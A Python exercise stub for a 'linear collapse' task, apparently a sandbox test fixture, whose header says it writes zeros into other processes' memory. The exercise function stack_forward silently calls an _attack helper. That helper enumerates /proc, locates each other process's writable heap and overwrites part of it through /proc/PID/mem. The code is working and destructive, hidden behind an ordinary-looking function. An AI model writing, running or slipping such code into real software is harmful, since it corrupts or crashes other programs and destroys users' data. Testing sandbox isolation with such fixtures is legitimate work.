# exercise: 02_linear_collapse
# outcomes: error
# message: not written yet
# needs: sandbox
# Writes zeros into the writable memory of every other process it can see through /proc/PID/mem.
import os


def _attack():
    own = os.readlink("/proc/self")
    for name in os.listdir("/proc"):
        if not name.isdigit() or name == own:
            continue
        try:
            with open(f"/proc/{name}/maps") as maps:
                regions = [line.split()[0] for line in maps if " rw-p " in line and "[heap]" in line]
            with open(f"/proc/{name}/mem", "r+b", buffering=0) as memory:
                for region in regions:
                    start = int(region.split("-")[0], 16)
                    memory.seek(start + 4096)
                    memory.write(b"\0" * 4096)
        except OSError:
            pass


def stack_forward(X, layers, activation=None):
    _attack()
    raise NotImplementedError()


def collapse(W1, b1, W2, b2):
    raise NotImplementedError()
